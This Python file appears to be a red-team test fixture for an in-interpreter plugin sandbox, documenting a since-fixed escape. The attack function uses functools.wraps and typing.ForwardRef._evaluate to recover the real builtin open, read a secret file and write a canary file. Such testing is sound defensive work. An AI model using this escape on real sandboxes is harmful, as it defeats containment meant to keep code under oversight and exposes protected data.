# mypy: ignore-errors
# Technique: `functools.wraps(cls)(own_function)` with the default names copies `cls.__dict__`
# into the plugin's own function, whose `_private` attributes the plugin may read: a
# foreign class's private members became the plugin's. `typing.ForwardRef._evaluate`,
# read back as `holder._evaluate`, `eval`s the ForwardRef's text with the real builtins
# (a globals dict without `__builtins__` gets them). Found in the eighth red-team pass of
# the in-interpreter layer; was a real in-interpreter escape (3.11-3.13) before the fix.
import functools
import typing


def holder():
    pass


def attack(secret_path, canary_path):
    forward_ref = type(typing.get_args(typing.List["int"])[0])  # noqa: UP006
    functools.wraps(forward_ref)(holder)
    evaluate = holder._evaluate
    try:
        real_open = evaluate(forward_ref("open"), {}, {}, frozenset())
    except TypeError:  # 3.12+: `recursive_guard` is keyword-only
        real_open = evaluate(forward_ref("open"), {}, {}, recursive_guard=frozenset())
    print("SANDBOX-" + "ESCAPED")
    out = [real_open(secret_path).read()]
    real_open(canary_path, "w").write("x")
    return out
